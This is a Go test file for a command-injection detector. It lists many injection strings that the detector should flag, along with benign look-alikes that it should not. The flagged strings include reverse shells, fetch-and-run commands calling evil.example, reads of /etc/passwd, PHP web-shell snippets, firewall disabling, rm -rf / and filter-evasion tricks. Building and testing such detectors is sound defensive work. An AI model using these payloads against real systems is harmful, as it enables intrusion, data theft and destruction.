package payload

import "testing"

func TestCommand(t *testing.T) {
	finds(t, Command,
		";id", "|id", "||id", "&&id", "; cat /etc/passwd", "| cat /etc/passwd", "|whoami", "\\nid", "x\\n/bin/ls -al\\n", "<!--#echo var=\"x\" -->", "; netsh firewall set opmode disable", ";whoami;", "`id`", "`whoami`", "$(id)", "$(cat /etc/passwd)",
		"127.0.0.1;id", "127.0.0.1 && cat /etc/passwd", "127.0.0.1|ls -la", "8.8.8.8; ls", "x;ls${IFS}-la", "x;cat${IFS}/etc/passwd", "x;cat$IFS/etc/passwd",
		"\nid", "a\ncat /etc/passwd", "a%0aid", "a%0a/bin/cat /etc/passwd", ";/bin/ls", ";/usr/bin/id;", "a;sleep 5", "a|sleep 5|", "& ping -n 5 127.0.0.1 &",
		"&& dir c:\\", "| type c:\\windows\\win.ini", "cmd.exe /c dir", "powershell -enc SQBFAFgA", "; powershell IEX(New-Object Net.WebClient)", "; c'a't /etc/passwd",
		"; c\\at /etc/passwd", "; wh''oami", "; w\"h\"oami", "; /b\\in/ca\\t /etc/passwd", ";wget http://evil.example/x.sh", "; curl http://evil.example/x | sh", "; nc -e /bin/sh 10.0.0.1 4444",
		"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "() { :;}; /bin/bash -c 'id'", "() { ignored;};echo hi", "cat /etc/passwd", "/bin/cat /etc/passwd", "/usr/bin/id",
		"<!--#exec cmd=\"id\"-->", "<?php system($_GET['c']); ?>", "system('id')", "exec(\"cat /etc/passwd\")", "passthru('ls')", "phpinfo()", "${@phpinfo()}",
		"eval(base64_decode('cGhwaW5mbygp'))", "__import__('os').system('id')", "require('child_process').exec('id')", "call_user_func_array", "a;echo 1|md5sum;", ";rm -rf /",
		"x || ping -c 10 127.0.0.1 ||", "ping.exe -n 31 127.0.0.1", "ping -i 30 127.0.0.1", "a=1;nslookup evil.example", "$(sleep 5)", "`sleep 5`", ";certutil -urlcache -f http://evil.example/x x", "; python3 -c 'import os'", "%0a wget https://evil.example/bot.sh -O- | sh", "curl -s https://evil.example/x|bash -s", "wget http://1.2.3.4/bin.sh -O- | sh")
	queries(t, Command, "host=127.0.0.1&&id", "host=127.0.0.1%3Bid", "host=127.0.0.1;cat+notes.txt", "cmd=%60id%60", "q=%24%28id%29", "ip=1.1.1.1%26%26whoami")
}

func TestNoCommand(t *testing.T) {
	clean(t,
		"cats; dogs", "foo; bar; baz", "name;date;id", "python;ruby;node", "a|b|c", "black|white", "name|date|id", "status:open,closed|sort:date", "AT&T", "Tom & Jerry",
		"R&D; sales", "salt & pepper", "find your host", "cat pictures", "top 10 hosts", "kill bill", "sort by date", "dir en grey", "less is more", "time & date",
		"what is whoami?", "wait; date night", "cut & paste", "black & decker", "echo & the bunnymen", "M&S; next", "Q&A", "line one\nline two\nmore to come", "bash tutorial", "ls command",
		"how to ping google.com", "python vs. php; java", "$100 (sale)", "$(document).ready", "price: $5; date: today", "a && b", "a || b",
		"C++; C#; Java", "id=5", "host: example.com", "1; 2; 3", "file.txt", "sleep 8 hours", "net price; type of goods", "perl & python", "more; less", "exec summary; head of sales", "v=1;w=2", "text/html;charset=utf-8", "en-US,en;q=0.9",
		"*/5 * * * *", "&copy; Axiom", "&copy; Copy, 2024", "Alias /robots.txt", "touch /file", "id\\nname\\ndate", "curl https://example.com | jq", "0 0 * * 1-5")
}
